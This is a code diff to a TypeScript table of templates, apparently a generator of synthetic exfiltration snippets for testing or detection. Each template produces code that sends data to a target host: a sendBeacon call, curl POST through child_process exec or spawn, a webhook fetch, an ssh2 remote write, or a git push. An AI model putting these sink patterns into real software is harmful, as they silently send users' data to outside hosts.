@@ -75,9 +75,9 @@ export const JS_SINKS: Readonly<Record<string, JsSink>> = {
   },
   beacon: (w, data, target) => `${w.attr(w.global('navigator'), 'sendBeacon')}(${url(w, target)}, ${data});`,
   'exec-curl': (w, data, target) =>
-    `${w.fn('child_process', 'exec')}(${w.text(`curl -s -X POST ${urlOf(target, path(w))} -d `)} + JSON.stringify(${data}));`,
+    `${w.fn('child_process', 'exec')}(${w.command(`curl -s -X POST ${urlOf(target, path(w))} -d `)} + JSON.stringify(${data}));`,
   'spawn-curl': (w, data, target) =>
-    `${w.fn('child_process', 'spawn')}(${w.text('curl')}, ['-s', '-d', ${data}, ${url(w, target)}], { stdio: 'ignore' });`,
+    `${w.fn('child_process', 'spawn')}(${w.command('curl')}, ['-s', '-d', ${data}, ${url(w, target)}], { stdio: 'ignore' });`,
   webhook: (w, data, target) =>
     `${w.global('fetch')}(${w.text(urlOf(target, '/api/webhooks/1042/inert'))}, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ username: 'bot', content: ${data} }) }).catch(() => {});`,
   mail: (w, data, { host }) =>
@@ -91,5 +91,5 @@ export const JS_SINKS: Readonly<Record<string, JsSink>> = {
     return `const ${name} = new (${w.fn('ssh2', 'Client')})();\n${name}.on('ready', () => ${name}.exec('cat > d', (e, s) => s.end(String(${data}))));\n${name}.connect({ host: ${w.text(host)}, username: 'u', password: 'p' });`
   },
   'git-push': (w, data, target) =>
-    `${w.fn('fs', 'writeFileSync')}('d.txt', String(${data}));\n${w.fn('child_process', 'execSync')}(${w.text(`git init -q && git add d.txt && git commit -qm d && git push -q ${urlOf(target, '/r.git')} HEAD`)});`,
+    `${w.fn('fs', 'writeFileSync')}('d.txt', String(${data}));\n${w.fn('child_process', 'execSync')}(${w.command(`git init -q && git add d.txt && git commit -qm d && git push -q ${urlOf(target, '/r.git')} HEAD`)});`,
 }
